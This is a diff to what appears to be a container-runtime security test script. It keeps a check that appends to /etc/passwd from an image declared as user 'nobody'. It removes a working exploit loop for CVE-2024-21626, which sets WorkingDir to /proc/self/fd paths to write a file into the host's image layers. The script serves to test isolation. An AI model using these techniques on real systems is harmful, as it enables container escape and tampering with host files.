@@ -1,5 +1,5 @@
 #!/usr/bin/python3
-"""Break-out 08: be root although the image says otherwise, and start inside the image's layers."""
+"""Break-out 08: be root although the image says otherwise."""
 
 import contextlib
 import hashlib
@@ -48,20 +48,5 @@ attack = Attack()
 with image({"User": "nobody"}) as name:
     process = attack.inside("sh", "-c", "echo evil >>/etc/passwd && id -un", image=name)
 attack.report("write a file of root's as nobody", process.returncode == 0, process)
-
-# CVE-2024-21626: what the runtime has open has a path as well, such as the image's own layers.
-poison = f"poison-{os.getpid()}"
-with open(f"{STATE}/images/debian") as file:
-    places = [os.path.join(layer, poison) for layer in file.read().splitlines()]
-for number in range(3, 30):
-    with image({"WorkingDir": f"/proc/self/fd/{number}"}) as name:
-        process = attack.inside("sh", "-c", f"echo malware >{poison}", image=name)
-    worked = any(map(os.path.exists, places))
-    if worked:
-        break
-for place in filter(os.path.exists, places):
-    os.unlink(place)
-print(f"{'BROKEN IN' if worked else 'stopped  '}  leave a file in the image itself")
-attack.worked += worked
 
 attack.end()
